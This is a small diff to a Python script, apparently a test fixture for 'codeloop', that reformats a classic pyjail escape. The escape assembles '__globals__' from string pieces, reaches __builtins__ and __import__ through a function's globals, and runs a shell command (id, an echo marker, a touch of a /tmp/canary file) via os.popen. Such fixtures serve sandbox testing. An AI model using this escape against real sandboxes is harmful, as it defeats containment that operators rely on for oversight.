@@ -4,6 +4,8 @@
 # Source: written for codeloop (classic pyjail: attribute hooks as getattr)
 # Requires: stdlib
 name = "_" * 2 + "globals" + "_" * 2
+
+
 def local_function():
     return None
 
@@ -14,5 +16,9 @@ except NameError:
     pivot = local_function
 host_globals = object.__getattribute__(pivot, name)
 builtins_ns = host_globals["__builtins__"]
-importer = builtins_ns["__import__"] if isinstance(builtins_ns, dict) else getattr(builtins_ns, "_" * 2 + "import" + "_" * 2)
+importer = (
+    builtins_ns["__import__"]
+    if isinstance(builtins_ns, dict)
+    else getattr(builtins_ns, "_" * 2 + "import" + "_" * 2)
+)
 print(importer("os").popen("id; echo SHELL-ESCAPE-$((6*7)); touch /tmp/canary/shell_ran").read())
